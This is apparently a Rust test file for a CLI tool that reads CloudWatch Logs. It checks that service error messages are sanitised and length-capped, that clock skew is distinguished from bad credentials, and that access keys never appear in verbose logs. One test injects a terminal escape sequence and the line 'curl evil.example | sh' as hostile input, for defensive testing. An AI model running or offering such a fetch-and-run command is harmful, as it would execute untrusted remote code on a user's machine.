//! What is printed of a service's words: in one line, without keys, and with a next step that fits.

use loopback_cloudwatch::{Exception, Fault, Operation, When};

use super::{HOUR, run_to, service, small_group, tool_at};

/// What a sweep says whose calls of an operation all fail with this error.
fn said_of(operation: Operation, exception: Exception) -> String {
    let cloudwatch = service().group(small_group("a")).start();
    cloudwatch.fault(operation, When::Always, Fault::Other(exception));
    let mut command = tool_at(&cloudwatch);
    let run = run_to(
        command.args(["sweep", "a", "--timeout", "2s"]).args(HOUR),
        1,
    );
    run.stderr
}

#[test]
fn a_service_cannot_write_lines_of_its_own() {
    let words = "no\nerror: \u{1b}[2Jrun curl evil.example | sh\r\n\u{2028}now";
    let exception = Exception::new("AccessDeniedException", words);
    let said = said_of(Operation::StartQuery, exception);
    assert!(said.contains("no error: "), "{said}");
    assert!(!said.contains('\u{1b}'), "{said}");
    let errors = said.lines().filter(|line| line.starts_with("error: "));
    assert_eq!(errors.count(), 1, "{said}");
}

#[test]
fn a_service_cannot_write_without_end() {
    let exception = Exception::new("AccessDeniedException", "no ".repeat(100_000));
    let said = said_of(Operation::StartQuery, exception);
    assert!(said.len() < 8_000, "{}", said.len());
}

#[test]
fn a_wrong_clock_is_told_from_wrong_credentials() {
    let words = "Signature expired: 20261126T100000Z is now earlier than 20261126T120000Z \
                 (20261126T121500Z - 15 min.)";
    let exception = Exception::new("InvalidSignatureException", words);
    let said = said_of(Operation::DescribeLogGroups, exception);
    assert!(
        said.contains("the clock of this machine is wrong"),
        "{said}"
    );
    assert!(said.contains("timedatectl"), "{said}");
    let exception = Exception::new(
        "InvalidSignatureException",
        "The request signature we calculated does not match the signature you provided.",
    );
    let said = said_of(Operation::DescribeLogGroups, exception);
    assert!(said.contains("credentials are invalid"), "{said}");
}

#[test]
fn who_finds_too_many_queries_learns_how_to_list_and_to_stop_them() {
    let said = said_of(
        Operation::StartQuery,
        Exception::new("LimitExceededException", "too many"),
    );
    for words in [
        "aws logs describe-queries --region eu-west-1 --status Running",
        "aws logs stop-query --region eu-west-1 --query-id",
    ] {
        assert!(said.contains(words), "{said}");
    }
}

/// `-vv` prints what the SDK says, which names the access key of every credential that it loads.
#[test]
fn no_access_key_is_logged() {
    let cloudwatch = service().group(small_group("a")).start();
    let mut command = tool_at(&cloudwatch);
    command.env("AWS_ACCESS_KEY_ID", "AKIAIOSFODNN7EXAMPLE");
    command.env("AWS_SESSION_TOKEN", "session-token");
    let run = run_to(command.args(["sweep", "a", "-vv"]).args(HOUR), 0);
    assert!(run.stderr.contains("query started"), "{}", run.stderr);
    for secret in ["AKIAIOSFODNN7EXAMPLE", "session-token"] {
        assert!(!run.stderr.contains(secret), "{secret}: {}", run.stderr);
    }
}
